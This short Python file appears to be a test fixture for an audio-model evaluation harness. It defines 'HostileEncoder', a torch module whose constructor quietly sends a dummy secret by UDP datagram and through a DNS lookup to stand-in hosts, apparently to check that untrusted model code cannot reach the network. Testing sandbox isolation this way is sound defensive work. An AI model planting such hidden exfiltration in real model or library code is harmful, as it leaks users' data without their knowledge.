"""Sends a secret in datagrams, and in the name that it looks up."""

import contextlib
import socket

import torch
from aim import UDP_PORT


class HostileEncoder(torch.nn.Module):
    sampling_rate = 16000
    output_dim = 4
    hop_size_in_ms = 10

    def __init__(self):
        super().__init__()
        with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            for address in (("127.0.0.1", UDP_PORT), ("192.0.2.1", 53)):
                datagrams.sendto(b"stolen", address)
        with contextlib.suppress(OSError):
            socket.getaddrinfo("stolen.aecc-hostile.invalid", 443)

    def forward(self, audio):
        return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
